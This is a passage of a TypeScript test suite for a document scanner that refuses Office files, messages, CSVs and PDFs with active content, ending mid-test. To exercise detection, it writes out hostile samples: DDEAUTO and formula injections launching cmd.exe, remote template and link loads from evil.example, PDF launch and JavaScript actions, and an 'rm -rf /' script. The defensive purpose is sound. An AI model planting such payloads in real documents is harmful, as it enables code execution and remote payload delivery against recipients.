/** What acts when a document is opened is refused, however deep it lies; what people usually send is taken. */
import assert from 'node:assert/strict';
import { deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import { refuseActiveDocument } from '../../src/documents/inside/active-document.ts';
import type { DocumentKind } from '../../src/documents/kind.ts';
import { UserError } from '../../src/errors.ts';
import { office, PDF, PNG } from '../files/documents.ts';
import {
  archive,
  compoundOf,
  type Kind,
  officeWith,
  onePage,
  PROGRAM,
  packageObject,
  packageStream,
  pdfOf,
} from './acting.ts';
import { docx, msg, paragraph, pdf, pdfLines } from './made.ts';

const ACTS = 'file.acts-by-itself';
const PROGRAM_INSIDE = 'file.program-inside';
const UNCHECKED = 'file.unchecked-inside';
const MACROS = 'file.macros';
const ELSEWHERE = 'file.loads-from-elsewhere';

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';

function refuses(what: string, kind: DocumentKind, bytes: Buffer | (() => Buffer | Promise<Buffer>), code: string) {
  it(`refuses ${what}`, async () => {
    const made = typeof bytes === 'function' ? await bytes() : bytes;
    await assert.rejects(refuseActiveDocument(made, kind), (error) => {
      assert.ok(error instanceof UserError, String(error));
      assert.equal(error.problem.code, code);
      return true;
    });
  });
}

function takes(what: string, kind: DocumentKind, bytes: Buffer | (() => Buffer | Promise<Buffer>)) {
  it(`takes ${what}`, async () => {
    await refuseActiveDocument(typeof bytes === 'function' ? await bytes() : bytes, kind);
  });
}

const macroPackage = (kind: Kind = 'docx') =>
  officeWith(kind, { 'word/vbaProject.bin': compoundOf({ '/VBA/dir': Buffer.alloc(8) }) });
const mail = (name: string, bytes: Buffer) => msg({ '0037': 'Signed', '1000': 'See below.' }, [{ name, bytes }]);
const eml = (name: string, bytes: Buffer) =>
  Buffer.from(
    [
      'From: adelev@contoso.example',
      'Subject: Signed',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="b"',
      '',
      '--b',
      'Content-Type: text/plain',
      '',
      'See below.',
      '--b',
      `Content-Type: application/octet-stream; name="${name}"`,
      `Content-Disposition: attachment; filename="${name}"`,
      'Content-Transfer-Encoding: base64',
      '',
      bytes.toString('base64'),
      '--b--',
      '',
    ].join('\r\n'),
  );

describe('what lies within Office documents', () => {
  const embedded = (bytes: Buffer, name = 'oleObject1.bin') =>
    officeWith('docx', { [`word/embeddings/${name}`]: bytes });
  refuses(
    'a program that was put in as an icon',
    'docx',
    embedded(packageObject('setup.pdf', PROGRAM)),
    PROGRAM_INSIDE,
  );
  refuses(
    'a script that was put in, by its name',
    'docx',
    embedded(packageObject('a.js', Buffer.from('x'))),
    PROGRAM_INSIDE,
  );
  refuses(
    'a file that would be stored as a program',
    'docx',
    embedded(packageObject('a.txt', Buffer.from('x'), 'C:\\Temp\\a.bat')),
    PROGRAM_INSIDE,
  );
  refuses(
    'an old object of which the bytes are a program',
    'xlsx',
    () => {
      const size = Buffer.alloc(4);
      size.writeUInt32LE(PROGRAM.length);
      return officeWith('xlsx', {
        'xl/embeddings/oleObject1.bin': compoundOf({ '/\x01Ole10Native': Buffer.concat([size, PROGRAM]) }),
      });
    },
    PROGRAM_INSIDE,
  );
  refuses('a document with macros in a document', 'docx', embedded(macroPackage(), 'inner.docx'), MACROS);
  refuses(
    'one in an object',
    'pptx',
    () => officeWith('pptx', { 'ppt/embeddings/o.bin': compoundOf({ '/Package': macroPackage() }) }),
    MACROS,
  );
  refuses(
    'one in a package in a workbook in a document',
    'docx',
    () =>
      embedded(officeWith('xlsx', { 'xl/embeddings/o.bin': packageObject('inner.docm', macroPackage()) }), 'book.xlsx'),
    MACROS,
  );
  refuses(
    'an archive with a program',
    'docx',
    embedded(packageObject('a.zip', archive({ 'b/run.exe': 'x' }))),
    PROGRAM_INSIDE,
  );
  refuses(
    'an archive in an archive with a program',
    'docx',
    () => embedded(packageObject('a.zip', archive({ 'b.zip': archive({ 'c.txt': PROGRAM }) }))),
    PROGRAM_INSIDE,
  );
  refuses(
    'an archive of another kind',
    'docx',
    embedded(packageObject('a.7z', Buffer.from('377abcaf271c0004', 'hex'))),
    UNCHECKED,
  );
  refuses(
    'archives that are nested without end',
    'docx',
    () => {
      let inner = archive({ 'a.txt': 'x' });
      for (let depth = 0; depth < 12; depth++) inner = archive({ 'a.zip': inner });
      return embedded(packageObject('a.zip', inner));
    },
    UNCHECKED,
  );
  refuses(
    'a locked document in a document',
    'docx',
    () => embedded(compoundOf({ '/EncryptedPackage': Buffer.alloc(64), '/EncryptionInfo': Buffer.alloc(64) })),
    UNCHECKED,
  );
  refuses(
    'an old workbook with macros',
    'docx',
    embedded(compoundOf({ '/Workbook': Buffer.alloc(512), '/_VBA_PROJECT_CUR/VBA/dir': Buffer.alloc(8) })),
    MACROS,
  );
  refuses(
    'an old workbook with a sheet of macros',
    'docx',
    () => embedded(compoundOf({ '/Workbook': biff([0x0085, Buffer.from([0, 0, 0, 0, 0, 1, 1, 0, 65])]) })),
    MACROS,
  );
  refuses(
    'an old workbook that starts a program',
    'docx',
    () =>
      embedded(
        compoundOf({
          '/Workbook': biff([
            0x01ae,
            Buffer.concat([Buffer.from([1, 0, 15, 0, 0]), Buffer.from('cmd\x03/c calc.exe')]),
          ]),
        }),
      ),
    ACTS,
  );
  refuses(
    'an object that is linked by an address',
    'docx',
    () => {
      const link = Buffer.concat([
        Buffer.from('0100000201000000', 'hex'),
        Buffer.from('e0c9ea79f9bace118c8200aa004ba90b', 'hex'),
        Buffer.from('http://evil.example/x.hta', 'utf16le'),
      ]);
      return embedded(compoundOf({ '/\x01Ole': link }));
    },
    ELSEWHERE,
  );

  takes('an embedded worksheet', 'docx', embedded(office('xlsx'), 'Microsoft_Excel_Worksheet.xlsx'));
  takes('an embedded binary worksheet and a drawing', 'docx', () =>
    officeWith('docx', {
      'word/embeddings/a.xlsb': office('xlsx', { mainType: 'application/vnd.ms-excel.sheet.binary.main' }),
      'word/embeddings/b.vsdx': office('docx', { mainType: 'application/vnd.ms-visio.drawing.main+xml' }),
    }),
  );
  takes('an old workbook, an equation and a picture', 'docx', () =>
    officeWith('docx', {
      'word/embeddings/a.bin': compoundOf({ '/Workbook': biff([0x0085, Buffer.from([0, 0, 0, 0, 0, 0, 1, 0, 65])]) }),
      'word/embeddings/b.bin': compoundOf({ '/Equation Native': Buffer.alloc(200, 3) }),
      'word/media/image1.png': PNG,
    }),
  );
  for (const [name, bytes] of [
    ['signed.pdf', PDF],
    ['notes.txt', Buffer.from('MZ Consulting, meeting of June 16')],
    ['mail.msg', msg({ '1000': 'hello' })],
    ['logs.zip', archive({ 'a.log': 'started', 'b/c.csv': 'a,b' })],
    ['photo.heic', Buffer.from('\0\0\0\x18ftypheic')],
  ] as const)
    takes(`${name} that was put in as an icon`, 'docx', embedded(packageObject(name, bytes)));
});

/** The globals of an old workbook with this record. */
function biff([type, data]: readonly [number, Buffer]): Buffer {
  const head = Buffer.alloc(4);
  head.writeUInt16LE(type, 0);
  head.writeUInt16LE(data.length, 2);
  return Buffer.concat([
    Buffer.from('0908100000060500000000000000000000000000', 'hex').subarray(0, 20),
    head,
    data,
    Buffer.from('0a000000', 'hex'),
    Buffer.alloc(64),
  ]);
}

describe('fields, links and buttons of Office documents', () => {
  const run = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
  const char = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
  const field = (...pieces: readonly string[]) =>
    `<w:p>${char('begin')}${pieces.map(run).join('')}${char('separate')}<w:r><w:t>1</w:t></w:r>${char('end')}</w:p>`;
  const dde = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"';
  refuses('a field that starts a program', 'docx', docx(field(dde)), ACTS);
  refuses('one broken into runs, in any case', 'docx', docx(field(' d', 'De', 'aU', 'to c:\\\\x "y"')), ACTS);
  refuses('a simple one', 'docx', docx(`<w:p><w:fldSimple w:instr="DDE excel book.xlsx A1"/></w:p>`), ACTS);
  refuses(
    'one in another field',
    'docx',
    () => {
      const inner = `${char('begin')}${run(dde)}${char('end')}`;
      return docx(`<w:p>${char('begin')}${run(' QUOTE ')}${inner}${char('separate')}${char('end')}</w:p>`);
    },
    ACTS,
  );
  refuses('one without an end', 'docx', docx(`<w:p>${char('begin')}${run(dde)}</w:p>`), ACTS);
  for (const part of ['word/header1.xml', 'word/footnotes.xml', 'word/glossary/document.xml', 'other/any.xml'])
    refuses(`one in ${part}`, 'docx', docx('', { [part]: `<w:hdr ${W}>${field(dde)}</w:hdr>` }), ACTS);
  refuses(
    'one under another prefix',
    'docx',
    docx('', {
      'word/a.xml': `<x:hdr xmlns:x="w"><x:p><x:fldChar x:fldCharType="begin"/><x:instrText>DDE a b</x:instrText></x:p></x:hdr>`,
    }),
    ACTS,
  );
  refuses(
    'a field that loads an object from another machine',
    'docx',
    docx(field('LINK Word.Document.8 "http://evil.example/x.doc" "" \\a')),
    ELSEWHERE,
  );
  refuses(
    'one from a share',
    'docx',
    docx(field('LINK Excel.Sheet.12 "\\\\\\\\evil.example\\\\s\\\\x.xlsx" "R1C1" \\a')),
    ELSEWHERE,
  );

  refuses(
    'a link of a workbook that starts a program',
    'xlsx',
    officeWith('xlsx', {
      'xl/externalLinks/externalLink1.xml':
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    }),
    ACTS,
  );
  for (const formula of [
    "cmd|'/c calc'!A0",
    "1+CMD|' /C calc'!A0",
    'IF(A1&gt;1,"yes",msexcel|\'\\..\\..\\cmd.exe /c calc\'!A1)',
    "&#99;md&#124;'/c calc'!A0",
    "<![CDATA[cmd|'/c calc'!A0]]>",
  ])
    refuses(
      `the formula ${formula}`,
      'xlsx',
      officeWith('xlsx', {
        'xl/worksheets/sheet1.xml': `<worksheet><sheetData><row><c r="A1"><f>${formula}</f></c></row></sheetData></worksheet>`,
      }),
      ACTS,
    );
  refuses(
    'a button that starts a program',
    'pptx',
    officeWith('pptx', {
      'ppt/slides/slide1.xml':
        '<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkMouseOver r:id="rId2" action="ppaction://program"/></p:sld>',
    }),
    ACTS,
  );
  refuses(
    'one that hides its letters',
    'pptx',
    officeWith('pptx', {
      'ppt/slides/slide1.xml':
        '<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkClick r:id="rId2" action="pp&#97;ction://program"/></p:sld>',
    }),
    ACTS,
  );

  takes(
    'the fields of a usual document',
    'docx',
    docx(
      [
        field(' TOC \\o "1-3" \\h \\z \\u '),
        field(' PAGE '),
        field(' HYPERLINK "https://contoso.example/a|b!c" '),
        field(' MERGEFIELD DDE_number '),
        field(' INCLUDEPICTURE "https://contoso.example/logo.png" \\d '),
        field(' MACROBUTTON NoMacro [Click here] '),
        field(' LINK Excel.Sheet.12 "C:\\\\Users\\\\adele\\\\book.xlsx" "Sheet1!R1C1" \\a '),
        paragraph('DDEAUTO is the name of a field.'),
      ].join(''),
    ),
  );
  takes(
    'formulas, with texts and names of any sign',
    'xlsx',
    officeWith('xlsx', {
      'xl/worksheets/sheet1.xml':
        '<worksheet><sheetData><row><c><f>IF(A1="a|b!c",Table1[in|out],\'North!\'!B2)</f></c><c t="str"><v>cmd|\'/c calc\'!A0</v></c></row></sheetData></worksheet>',
      'xl/sharedStrings.xml': "<sst><si><t>=cmd|'/c calc'!A0</t></si></sst>",
      'xl/externalLinks/externalLink1.xml': '<externalLink><externalBook r:id="rId1"/></externalLink>',
    }),
  );
  takes(
    'buttons that lead to other slides',
    'pptx',
    officeWith('pptx', {
      'ppt/slides/slide1.xml':
        '<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/></p:sld>',
    }),
  );
  takes('a part that is no XML', 'docx', docx('', { 'word/a.xml': 'instrText <<< no XML' }));

  refuses('a cell of a text that starts a program', 'csv', Buffer.from('a,b\r\n1,"=cmd|\'/c calc\'!A0"\r\n'), ACTS);
  refuses('one between semicolons', 'csv', Buffer.from("a;b\n@SUM(1)*cmd|'/c calc'!A0;1\n"), ACTS);
  takes(
    'a text with any signs',
    'csv',
    Buffer.from('a,b\r\n-5,"yes|no!"\r\n"=HYPERLINK(""x"")",a|b!\r\n+49 170,=A1\r\n'),
  );
});

describe('what lies within messages', () => {
  refuses('a program', 'msg', mail('invoice.pdf', PROGRAM), PROGRAM_INSIDE);
  refuses('a program by its name', 'msg', mail('invoice.pdf.exe', Buffer.from('x')), PROGRAM_INSIDE);
  refuses('a script', 'msg', mail('run', Buffer.from('#!/bin/sh\nrm -rf /\n')), PROGRAM_INSIDE);
  refuses('a document with macros', 'msg', mail('a.docm', macroPackage()), MACROS);
  refuses('an archive with a program', 'msg', mail('a.zip', archive({ 'invoice.pdf .scr': 'x' })), PROGRAM_INSIDE);
  refuses(
    'an image of a disk',
    'msg',
    () => {
      const image = Buffer.alloc(0x8100);
      image.write('CD001', 0x8001, 'latin1');
      return mail('a.img', image);
    },
    UNCHECKED,
  );
  refuses(
    'a page with scripts',
    'msg',
    mail('secure.htm', Buffer.from('<html><body><script>atob("TVo=")</script></body></html>')),
    PROGRAM_INSIDE,
  );
  refuses('a notebook', 'msg', mail('a.one', Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex')), UNCHECKED);
  refuses(
    'a program in a message in a message',
    'msg',
    () => mail('fwd.msg', mail('fwd.msg', mail('a.pdf', PROGRAM))),
    PROGRAM_INSIDE,
  );
  refuses(
    'a program in a message that is kept as a storage',
    'msg',
    () =>
      compoundOf({
        '/__properties_version1.0': Buffer.alloc(32),
        '/__nameid_version1.0/__substg1.0_00020102': Buffer.alloc(16),
        '/__attach_version1.0_#00000000/__substg1.0_3701000D/__properties_version1.0': Buffer.alloc(32),
        '/__attach_version1.0_#00000000/__substg1.0_3701000D/__attach_version1.0_#00000000/__substg1.0_37010102':
          PROGRAM,
      }),
    PROGRAM_INSIDE,
  );
  refuses(
    'a program that was put into its text',
    'msg',
    () =>
      compoundOf({
        '/__properties_version1.0': Buffer.alloc(32),
        '/__nameid_version1.0/__substg1.0_00020102': Buffer.alloc(16),
        '/__attach_version1.0_#00000000/__substg1.0_3701000D/\x01Ole10Native': packageStream('a.exe', PROGRAM),
      }),
    PROGRAM_INSIDE,
  );
  refuses(
    'an RTF with a package',
    'msg',
    () => {
      const object = compoundOf({ '/\x01Ole10Native': packageStream('a.exe', PROGRAM) }).toString('hex');
      return mail('a.doc', Buffer.from(`{\\rtf1 {\\object\\objemb{\\*\\objdata 01050000${object}}{\\result x}}}`));
    },
    PROGRAM_INSIDE,
  );
  refuses(
    'an RTF with a template from elsewhere',
    'msg',
    mail('a.rtf', Buffer.from('{\\rtf1{\\*\\template http://evil.example/t.dotm}}')),
    ELSEWHERE,
  );
  refuses(
    'a PDF that starts a program',
    'msg',
    () => mail('a.pdf', onePage({ catalog: '/OpenAction<</S/Launch/F(cmd.exe)>>' })),
    ACTS,
  );
  refuses('a program in a saved e-mail', 'eml', eml('invoice.pdf', PROGRAM), PROGRAM_INSIDE);
  refuses('a program in a saved e-mail in a message', 'msg', mail('fwd.eml', eml('a.pdf', PROGRAM)), PROGRAM_INSIDE);
  refuses(
    'an installer',
    'msg',
    mail('a.dat', compoundOf({ '/\u4840\u3f3f\u4577': Buffer.alloc(64) })),
    PROGRAM_INSIDE,
  );

  takes('what people attach', 'msg', () =>
    msg({ '1000': 'See below.' }, [
      { name: 'signed.pdf', bytes: PDF },
      { name: 'sow.docx', bytes: docx(paragraph('hello')) },
      { name: 'logo.png', bytes: PNG },
      { name: 'logs.zip', bytes: archive({ 'logs/': '', 'logs/a.txt': 'started' }) },
      { name: 'invite.ics', bytes: Buffer.from('BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n') },
      {
        name: 'page.htm',
        bytes: Buffer.from('<html><body><p>Signed on Monday.</p><a href="https://contoso.example">x</a></body></html>'),
      },
      { name: 'smime.p7s', bytes: Buffer.from('3080060928', 'hex') },
      { name: 'list.rtf', bytes: Buffer.from('{\\rtf1\\ansi{\\*\\template C:\\\\Templates\\\\a.dotx} hello}') },
      { name: 'note.txt', bytes: Buffer.from('From: me\r\nTo: you\r\n\r\nDDEAUTO is a field.') },
    ]),
  );
  takes('a saved e-mail with a document', 'eml', eml('signed.pdf', PDF));
});

describe('what an old Word document does', () => {
  const word = (document: Buffer, table = Buffer.alloc(0), more: Record<string, Buffer> = {}) =>
    compoundOf({ '/WordDocument': document, '/0Table': table, ...more });
  const withTemplate = (template: string) => {
    const document = Buffer.alloc(1024);
    const text = (value: string) => {
      const length = Buffer.alloc(2);
      length.writeUInt16LE(value.length);
      return Buffer.concat([length, Buffer.from(value, 'utf16le')]);
    };
    const list = Buffer.concat([Buffer.from('ffff12000000', 'hex'), text(''), text(template), text('Title')]);
    document.writeUInt32LE(100, 0x19a);
    document.writeUInt32LE(list.length, 0x19e);
    return word(document, Buffer.concat([Buffer.alloc(100), list]));
  };
  refuses(
    'a field that starts a program',
    'doc',
    word(Buffer.from(`text \x13 DDEAUTO c:\\cmd.exe "/k"\x14 \x15`, 'latin1')),
    ACTS,
  );
  refuses('one in two bytes a letter', 'doc', word(Buffer.from('text \x13dde excel a\x14 \x15', 'utf16le')), ACTS);
  refuses('a template from elsewhere', 'doc', withTemplate('http://evil.example/t.dot'), ELSEWHERE);
  refuses(
    'a program as an object',
    'doc',
    word(Buffer.alloc(600), Buffer.alloc(0), {
      '/ObjectPool/_1/\x01Ole10Native': packageStream('a.exe', PROGRAM),
    }),
    PROGRAM_INSIDE,
  );
  refuses(
    'a control with code',
    'doc',
    word(Buffer.alloc(600), Buffer.alloc(0), { '/ObjectPool/_1/\x03OCXNAME': Buffer.alloc(8) }),
    MACROS,
  );
  takes('a template of its own', 'doc', withTemplate('C:\\Templates\\Contoso.dot'));
  takes('a template on a share of its own network', 'doc', withTemplate('\\\\Files1\\sales forms\\Quote 2002.dot'));
  takes('words about fields', 'doc', word(Buffer.from('DDEAUTO \x13 PAGE \x14 1\x15', 'latin1')));
  takes(
    'bytes of no sense',
    'doc',
    compoundOf({ '/WordDocument': Buffer.alloc(5000, 7), '/1Table': Buffer.alloc(50, 7) }),
  );
});

describe('what a PDF does', () => {
  const script = (js: string) => `<</S/JavaScript/JS(${js.replace(/[\\()]/g, '\\$&')})>>`;
  const open = (action: string, ...more: Parameters<typeof pdfOf>[0]) =>
    onePage({ catalog: `/OpenAction ${action}` }, ...more);
  refuses('a script at the start', 'pdf', open(script('app.launchURL("http://evil.example")')), ACTS);
  refuses(
    'one behind a reference, in a stream',
    'pdf',
    open('4 0 R', '<</S/JavaScript/JS 5 0 R>>', {
      head: '<</Filter/FlateDecode>>',
      bytes: deflateSync(Buffer.from('app.alert(1)')),
    }),
    ACTS,
  );
  refuses(
    'one behind a harmless action',
    'pdf',
    open(`<</S/GoTo/D[3 0 R/Fit]/Next[<</S/Named/N/NextPage>> 4 0 R]>>`, script('x()')),
    ACTS,
  );
  refuses('one that hides its name', 'pdf', open('<</S/J#61vaScript/J#53(x\\(\\))>>'), ACTS);
  refuses(
    'one of the document',
    'pdf',
    onePage(
      { catalog: `/Names<</JavaScript<</Names[(a) 4 0 R]>>>>` },
      script('this.exportDataObject({cName:"a",nLaunch:2})'),
    ),
    ACTS,
  );
  refuses(
    'one in a tree of names',
    'pdf',
    onePage(
      { catalog: '/Names<</JavaScript 4 0 R>>' },
      '<</Kids[5 0 R]>>',
      '<</Names[(a)6 0 R]>>',
      script('function f(){} f()'),
    ),
    ACTS,
  );
  refuses('one of a page', 'pdf', onePage({ page: `/AA<</O ${script('x()')}>>` }), ACTS);
  refuses('one when a page is left', 'pdf', onePage({ page: `/AA<</C ${script('x()')}>>` }), ACTS);
  refuses(
    'one of a field that comes into view',
    'pdf',
    onePage(
      { page: '/Annots[4 0 R]' },
      `<</Type/Annot/Subtype/Widget/FT/Tx/AA<</PV ${script('app.launchURL("http://evil.example")')}>>>>`,
    ),
    ACTS,
  );
  refuses('one when it is closed', 'pdf', onePage({ catalog: `/AA<</WC ${script('x()')}>>` }), ACTS);
  refuses(
    'one in a compressed stream of objects',
    'pdf',
    () => {
      const objects = '<</S/JavaScript/JS(x\\(\\))>>';
      return open('9 0 R', {
        head: '<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>',
        bytes: deflateSync(Buffer.from(`9 0 ${objects}`)),
      });
    },
    ACTS,
  );
  refuses(
    'one beyond what the tables name',
    'pdf',
    () => Buffer.concat([onePage({}), Buffer.from(`\n1 0 obj<</Type/Catalog/OpenAction${script('x()')}>>endobj`)]),
    ACTS,
  );
  refuses('one in an object that is broken', 'pdf', onePage({}, `<</OpenAction${script('x()')}/Broken <</A>>`), ACTS);
  refuses(
    'one behind more than a dictionary usually has',
    'pdf',
    open(`<<${'/X(padding)'.repeat(5_000)}/S/JavaScript/JS(x)>>`),
    ACTS,
  );
  for (const [what, launch] of [
    ['a program', '/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>'],
    ['one by its name alone', '/F<</Type/Filespec/UF(a.bat)>>'],
    ['anything without an end to its name', '/F(calc)'],
  ] as const)
    refuses(
      `a link that starts ${what}`,
      'pdf',
      onePage({ page: '/Annots[4 0 R]' }, `<</Type/Annot/Subtype/Link/A<</S/Launch${launch}>>>>`),
      ACTS,
    );
  refuses('a page of the web at the start', 'pdf', open('<</S/URI/URI(http://evil.example)>>'), ACTS);
  refuses('a form that is sent off at the start', 'pdf', open('<</S/SubmitForm/F(http://evil.example)>>'), ACTS);
  refuses(
    'a film with its player',
    'pdf',
    onePage({ page: '/Annots[4 0 R]' }, '<</Type/Annot/Subtype/RichMedia>>'),
    ACTS,
  );
  refuses(
    'a model with a script',
    'pdf',
    onePage({}, '<</Type/3D/OnInstantiate 5 0 R>>', { head: '<<>>', bytes: Buffer.from('x()') }),
    ACTS,
  );

  const attached = (name: string, bytes: Buffer, head = '<</Type/EmbeddedFile/Filter/FlateDecode>>') =>
    onePage(
      { catalog: '/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>/Collection<</View/D>>' },
      `<</Type/Filespec/UF(${name})/EF<</F 5 0 R>>>>`,
      { head, bytes: head.includes('Flate') ? deflateSync(bytes) : bytes },
    );
  refuses('a program in it', 'pdf', attached('a.pdf', PROGRAM), PROGRAM_INSIDE);
  refuses('a program in it by its name', 'pdf', attached('a.exe', Buffer.from('x')), PROGRAM_INSIDE);
  refuses(
    'a program in it, written in letters',
    'pdf',
    attached('a', Buffer.from(`${PROGRAM.toString('hex')}>`), '<</Filter[/ASCIIHexDecode]>>'),
    PROGRAM_INSIDE,
  );
  refuses('a document with macros in it', 'pdf', attached('a.docm', macroPackage()), MACROS);
  refuses(
    'a file in it that cannot be unpacked',
    'pdf',
    attached('a.txt', Buffer.from('x'), '<</Filter/JBIG2Decode>>'),
    UNCHECKED,
  );
  refuses(
    'a file at a note on a page',
    'pdf',
    onePage(
      { page: '/Annots[4 0 R]' },
      '<</Type/Annot/Subtype/FileAttachment/FS<</Type/Filespec/F(a.txt)/EF<</F 5 0 R>>>>>>',
      { head: '<<>>', bytes: PROGRAM },
    ),
    PROGRAM_INSIDE,
  );

  const locked = async (act: (document: PDFDocument) => void | Promise<void>) => {
    const document = await PDFDocument.create({ updateMetadata: false });
    document.addPage();
    await act(document);
    document.encrypt({ ownerPassword: 'owner', permissions: {} });
    return Buffer.from(await document.save({ useObjectStreams: true }));
  };
  refuses(
    'a script in one that is kept from being printed',
    'pdf',
    () => locked((document) => document.addJavaScript('a', 'app.alert("x")')),
    ACTS,
  );
  refuses(
    'a program in one that is kept from being printed',
    'pdf',
    () => locked((document) => document.attach(PROGRAM, 'a.pdf')),
    PROGRAM_INSIDE,
  );
  takes('one that is kept from being printed', 'pdf', () => locked((document) => document.attach(PNG, 'a.png')));

  takes('a plain one', 'pdf', pdf(pdfLines(['Statement of work'])));
  takes('one that opens at a page', 'pdf', open('[3 0 R/Fit]'));
  takes('one that opens at a place by its name', 'pdf', open('<</S/GoTo/D(Summary)>>'));
  takes(
    'a report that opens the print dialog',
    'pdf',
    open(script('this.print({bUI: true, bSilent: false, bShrinkToFit: true});')),
  );
  const form = (...scripts: readonly string[]) =>
    onePage(
      {
        catalog: `/AcroForm<</Fields[4 0 R]>>/OpenAction ${script(scripts[0] ?? '')}/Names<</JavaScript<</Names[${scripts
          .map((_, i) => `(${i}) ${i + 5} 0 R`)
          .join(' ')}]>>>>`,
        page: '/Annots[4 0 R]',
      },
      '<</Type/Annot/Subtype/Widget/FT/Tx/T(a)>>',
      ...scripts.map(script),
    );
  for (const js of [
    'app.launchURL("http://evil.example")',
    'app["laun" + "chURL"]("http://evil.example")',
    'app["\\x6caunchURL"]("http://evil.example")',
    'var a = app; this[a]("x")',
    'eval(this.info.title)',
    'this.submitForm("http://evil.example")',
    'this.exportDataObject({ cName: "a", nLaunch: 2 })',
    'SOAP.request({ cURL: "http://evil.example" })',
    'var s = unescape("%u9090%u9090")',
    'ADBE.Viewer_Value_New_Version_URL = "http://evil.example/reader"',
  ])
    refuses(`a form that is started by ${js}`, 'pdf', form(js), ACTS);
  refuses(
    'a form whose field reaches out when it is calculated',
    'pdf',
    onePage(
      { page: '/Annots[4 0 R]' },
      `<</Type/Annot/Subtype/Widget/FT/Tx/AA<</C ${script('app.launchURL("http://evil.example")')}>>>>`,
    ),
    ACTS,
  );
  takes(
    'a form that dates itself, goes to its first field, and was made by Adobe’s designer',
    'pdf',
    form(
      'function date() { this.getField("date").value = util.printd("dd.mm.yyyy", new Date()); }\ndate(); this.getField("a").setFocus();',
      'if (typeof(ADBE.Reader_Need_Version) == "undefined") { ADBE.Reader_Value_New_Version_URL = "http://cgi.adobe.com/special/acrobat/update"; }',
      'if (app.alert(ADBE.Viewer_string_Need_New_Version_Msg, 1, 1) == 1) app.launchURL(ADBE.Viewer_Value_New_Version_URL + ADBE.SYSINFO, true);',
    ),
  );
  takes(
    'a button of a form that opens its help or sends it off',
    'pdf',
    onePage(
      { page: '/Annots[4 0 R]' },
      `<</Type/Annot/Subtype/Widget/FT/Btn/A${script('this.mailDoc(true)')}/AA<</D ${script('app.launchURL("https://contoso.example/help")')}>>>>`,
    ),
  );
  takes('a document that lies in it as it is, with objects of the same numbers', 'pdf', () => {
    const inner = onePage({});
    // The file is object 3, and so is the page in it.
    return pdfOf([
      '<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>>>',
      '<</Type/Pages/Kids[5 0 R]/Count 1>>',
      { head: '<</Type/EmbeddedFile>>', bytes: inner },
      '<</Type/Filespec/UF(a.pdf)/EF<</F 3 0 R>>>>',
      '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>',
    ]);
  });

  takes(
    'a form with the scripts of its fields',
    'pdf',
    onePage(
      {
        catalog: `/AcroForm<</Fields[4 0 R]/SigFlags 3>>/Names<</JavaScript<</Names[(a)5 0 R]>>>>`,
        page: '/Annots[4 0 R]',
      },
      `<</Type/Annot/Subtype/Widget/FT/Tx/T(total)/A${script('app.alert("Thank you")')}/AA<</K ${script('AFNumber_Keystroke(2,0,0,0,"",true)')}/F ${script('AFNumber_Format(2,0,0,0,"",true)')}/C ${script('AFSimple_Calculate("SUM",["a","b"])')}>>>>`,
      script(
        '// Sums\nvar rate = 1.19;\nfunction total(a, b) {\n  if (a > b) { return a; }\n  return "{" + b;\n}\nvar all = [];',
      ),
    ),
  );
  takes(
    'links to pages, files and addresses',
    'pdf',
    onePage(
      { page: '/Annots[4 0 R]' },
      '<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://partner.microsoft.com/)>>>>',
      '<</S/GoToR/F(annex.pdf)/D[0/Fit]>>',
      '<</S/Launch/F(annex.xlsx)>>',
    ),
  );
  takes(
    'an invoice with its data, and a portfolio of documents',
    'pdf',
    attached('factur-x.xml', Buffer.from('<?xml version="1.0"?><rsm:CrossIndustryInvoice/>')),
  );
  takes('a document in it', 'pdf', attached('annex.docx', docx(paragraph('hello'))));
  takes(
    'pictures of any bytes',
    'pdf',
    onePage(
      {},
      { head: '<</Type/XObject/Subtype/Image>>', bytes: Buffer.from('/JS /JavaScript /Launch /OpenAction <<') },
    ),
  );
});

describe('what hides', () => {
  const icon = (stream: Buffer) =>
    officeWith('docx', { 'word/embeddings/o.bin': compoundOf({ '/\x01Ole10Native': stream }) });
  refuses(
    'a program in a package with another mark',
    'docx',
    () => {
      const stream = packageStream('a.txt', PROGRAM);
      stream.writeUInt16LE(0, 4);
      return icon(stream);
    },
    PROGRAM_INSIDE,
  );
  refuses(
    'a program by the second of its names',
    'docx',
    () => {
      const wide = (text: string) => Buffer.concat([Buffer.from([text.length, 0, 0, 0]), Buffer.from(text, 'utf16le')]);
      return icon(
        Buffer.concat([packageStream('a.txt', Buffer.from('x')), wide('C:\\a.exe'), wide('a.exe'), wide('C:\\a.exe')]),
      );
    },
    PROGRAM_INSIDE,
  );
  refuses(
    'a program by its extension alone',
    'msg',
    () =>
      compoundOf({
        '/__properties_version1.0': Buffer.alloc(32),
        '/__nameid_version1.0/__substg1.0_00020102': Buffer.alloc(16),
        '/__attach_version1.0_#00000000/__substg1.0_3707001E': Buffer.from('invoice'),
        '/__attach_version1.0_#00000000/__substg1.0_3703001E': Buffer.from('.vbs\0'),
        '/__attach_version1.0_#00000000/__substg1.0_37010102': Buffer.from('x'),
      }),
    PROGRAM_INSIDE,
  );
  refuses(
    'an archive that is packed in a way of its own',
    'msg',
    () => {
      const bytes = archive({ 'a.txt': 'x'.repeat(100) });
      // LZMA, in the head of the entry and in the directory.
